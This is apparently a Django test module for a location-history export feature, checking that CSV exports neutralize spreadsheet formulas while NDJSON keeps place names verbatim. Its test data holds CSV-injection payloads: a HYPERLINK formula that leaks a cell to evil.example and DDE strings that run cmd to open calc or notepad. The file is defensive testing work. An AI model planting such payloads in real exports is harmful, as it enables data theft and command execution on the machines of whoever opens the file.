"""CSV exports neutralize formulas: imported text that a spreadsheet would run is shown as text.

Place names and addresses come from Google (anyone can name a place on the
map), so a visit named `=HYPERLINK(...)` must not become a live formula when
Alice opens her export. NDJSON and GeoJSON keep the text verbatim.
"""

import csv
import io
import json

from django.urls import reverse

from core.maintenance import ensure_partitions_for
from sources.location.tables import ACTIVITY_SEGMENT, LOCATION_POINT, PLACE_VISIT
from tests.explore.conftest import DAY, NEXT_DAY, _utc, insert_lake

LONDON = (515072000, -1276000)  # west of Greenwich: negative longitudes must stay numbers
HOSTILE = [
    ('=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+33 1 23 45 67 89", "-2+3+cmd|' /C notepad'!'A1'"),
]


def _download(client, fmt):
    response = client.get(reverse("lake:export_download"), {"format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def _alice_with_hostile_places(make_user):
    for table in (LOCATION_POINT, PLACE_VISIT, ACTIVITY_SEGMENT):
        ensure_partitions_for(table, _utc(DAY, 0), _utc(NEXT_DAY, 23))
    alice = make_user("alice", "user")
    insert_lake(alice.pk, LONDON, run_day1=1, run_day2=2, visit_names=HOSTILE)
    return alice


def test_formula_cells_in_a_csv_export_start_with_an_apostrophe(committed, make_user, client):
    alice = _alice_with_hostile_places(make_user)
    client.force_login(alice)
    rows = list(csv.DictReader(io.StringIO(_download(client, "csv"))))
    visits = [(r["name"], r["address"]) for r in rows if r["kind"] == "place_visit"]
    assert sorted(visits) == sorted(("'" + name, "'" + address) for name, address in HOSTILE)
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values()), row
    # Numbers are not text: a negative longitude is still a plain number.
    points = [r for r in rows if r["kind"] == "location_point"]
    assert points and all(float(r["lng"]) < 0 and not r["lng"].startswith("'") for r in points)


def test_tabs_and_carriage_returns_that_hide_a_formula_are_neutralized(committed, make_user, client):
    for table in (LOCATION_POINT, PLACE_VISIT, ACTIVITY_SEGMENT):
        ensure_partitions_for(table, _utc(DAY, 0), _utc(NEXT_DAY, 23))
    alice = make_user("alice", "user")
    insert_lake(alice.pk, LONDON, run_day1=1, run_day2=2,
                visit_names=[("\t=1+1", "\r=cmd"), ("Café -1", "10 Downing St")])
    client.force_login(alice)
    rows = list(csv.DictReader(io.StringIO(_download(client, "csv"))))
    visits = sorted((r["name"], r["address"]) for r in rows if r["kind"] == "place_visit")
    # Ordinary text that merely contains a minus is left alone.
    assert visits == sorted([("'\t=1+1", "'\r=cmd"), ("Café -1", "10 Downing St")])


def test_ndjson_keeps_the_names_verbatim(committed, make_user, client):
    alice = _alice_with_hostile_places(make_user)
    client.force_login(alice)
    records = [json.loads(line) for line in _download(client, "ndjson").splitlines()]
    names = sorted((r["name"], r["address"]) for r in records if r["kind"] == "place_visit")
    assert names == sorted(HOSTILE)
